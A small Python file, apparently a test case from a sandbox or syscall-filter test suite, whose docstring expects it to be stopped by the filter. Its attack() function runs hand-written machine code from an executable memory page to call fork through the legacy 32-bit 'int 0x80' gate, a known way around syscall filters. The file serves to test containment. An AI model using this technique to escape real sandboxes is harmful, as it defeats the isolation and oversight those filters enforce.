"""Call the kernel by its 32-bit gate, in machine code of one’s own.

Stopped by: filter of calls
Ends: died
"""

import ctypes
import mmap
import os
import platform

# mov eax, 2 (fork); int 0x80; ret
CODE = bytes.fromhex("b802000000cd80c3")


def attack(facts):
    if platform.machine() != "x86_64":
        os.abort()
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
